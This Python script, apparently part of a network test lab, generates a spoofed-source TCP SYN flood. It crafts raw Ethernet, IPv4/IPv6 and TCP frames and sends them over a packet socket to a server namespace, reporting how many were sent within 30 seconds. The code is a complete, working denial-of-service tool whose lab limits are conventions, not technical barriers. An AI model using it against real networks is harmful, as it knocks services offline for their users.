"""Runs inside a client namespace: a SYN flood from spoofed sources. Standard library only.

flood.py DEVICE SERVER_MAC ADDRESS PORT v4 COUNT   # COUNT sources spread over the IPv4 space
flood.py DEVICE SERVER_MAC ADDRESS PORT v6 PREFIX  # one source in each /64 of the /48 PREFIX

Frames go out of DEVICE (the client's end of its link) to SERVER_MAC, so only the
server namespace at the other end of the veth ever sees them. Prints JSON: how many
SYNs were sent, and how many seconds it took. Stops after 30 seconds in any case.
"""

from __future__ import annotations

import ipaddress
import json
import socket
import struct
import sys
import time
from collections.abc import Iterator

DEADLINE = 30.0
ETHER = {4: 0x0800, 6: 0x86DD}
GOLDEN = 0x9E3779B1  # odd: i * GOLDEN mod 2**32 never repeats, and spreads over every /16


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = int(sum(struct.unpack(f"!{len(data) // 2}H", data)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, dest: bytes, port: int, sport: int, pseudo_tail: bytes) -> bytes:
    header = struct.pack("!HHIIBBHHH", sport, port, sport * 7919, 0, 5 << 4, 0x02, 64240, 0, 0)
    csum = checksum(source + dest + pseudo_tail + header)
    return header[:16] + struct.pack("!H", csum) + header[18:]


def ipv4_sources(count: int) -> Iterator[bytes]:
    """Unicast sources spread over the whole space, none of them the lab's own 198.18/16."""
    i = 0
    while count:
        i += 1
        address = (i * GOLDEN) & 0xFFFFFFFF
        first = address >> 24
        if first in (0, 10, 127) or first >= 224 or address >> 16 == 0xC612:
            continue
        count -= 1
        yield address.to_bytes(4, "big")


def ipv6_sources(prefix: str) -> Iterator[bytes]:
    """One address in each of the 65,536 /64s of a /48."""
    base = int(ipaddress.IPv6Network(prefix).network_address)
    for i in range(1 << 16):
        yield (base | (i << 64) | 0x1234).to_bytes(16, "big")


def packet(version: int, source: bytes, dest: bytes, port: int, sport: int) -> bytes:
    if version == 4:
        tcp = syn(source, dest, port, sport, struct.pack("!BBH", 0, 6, 20))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, dest)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return ip + tcp
    tcp = syn(source, dest, port, sport, struct.pack("!IxxxB", 20, 6))
    return struct.pack("!IHBB16s16s", 6 << 28, 20, 6, 64, source, dest) + tcp


def main(device: str, server_mac: str, address: str, port: int, kind: str, amount: str) -> None:
    version = 6 if kind == "v6" else 4
    dest = ipaddress.ip_address(address).packed
    with open(f"/sys/class/net/{device}/address") as mac:
        own = bytes.fromhex(mac.read().strip().replace(":", ""))
    ether = bytes.fromhex(server_mac.replace(":", "")) + own + struct.pack("!H", ETHER[version])
    sources = ipv6_sources(amount) if version == 6 else ipv4_sources(int(amount))
    sent = 0
    start = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((device, 0))
        for source in sources:
            frame = ether + packet(version, source, dest, port, 1024 + sent % 60000)
            while True:
                try:
                    sock.send(frame)
                    break
                except BlockingIOError:  # the device queue is full: let it drain
                    time.sleep(0.001)
            sent += 1
            if time.monotonic() - start > DEADLINE:
                break
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 2)}))


if __name__ == "__main__":
    a = sys.argv[1:]
    main(a[0], a[1], a[2], int(a[3]), a[4], a[5])
